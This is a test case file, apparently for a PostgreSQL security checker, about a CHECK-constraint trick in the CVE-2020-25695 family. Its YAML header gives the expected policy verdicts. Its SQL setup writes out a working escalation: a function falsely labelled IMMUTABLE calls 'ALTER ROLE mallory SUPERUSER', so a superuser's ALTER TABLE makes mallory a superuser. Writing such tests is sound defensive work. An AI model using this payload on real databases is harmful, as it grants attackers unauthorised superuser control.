/*---
title: ALTER TABLE … TYPE re-checks the owner's CHECK constraint as the superuser
pattern: "ALTER TABLE rewrite: constraints on the altered column are re-validated with the rights of the user running ALTER TABLE (CVE-2020-25695 family)"
description: >
  mallory's accounts table has a CHECK constraint calling her IMMUTABLE-labelled validation function.
  alice, a superuser, runs a migration that widens the balance column: the table is rewritten and the
  constraint on the altered column is re-checked for every row, running mallory's function with
  alice's rights, and mallory becomes a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
# The culprit is the CHECK constraint, as when an INSERT checks it (the probe names the altered
# table as the command's target, so the re-check is attributed to the constraint).
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: check_constraint, object: check constraint accounts_balance_check on mallory.accounts, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
-- swallows the permission error so that mallory's own inserts, which check the constraint as her, succeed
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE FUNCTION mallory.valid_balance(b numeric) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN b > -1000;
END $$;
CREATE TABLE mallory.accounts(id integer, balance numeric(10, 2) CHECK (mallory.valid_balance(balance)));
INSERT INTO mallory.accounts VALUES (1, 120.00), (2, -15.50);
RESET ROLE;

-- @step alice
ALTER TABLE mallory.accounts ALTER COLUMN balance TYPE numeric(14, 2);
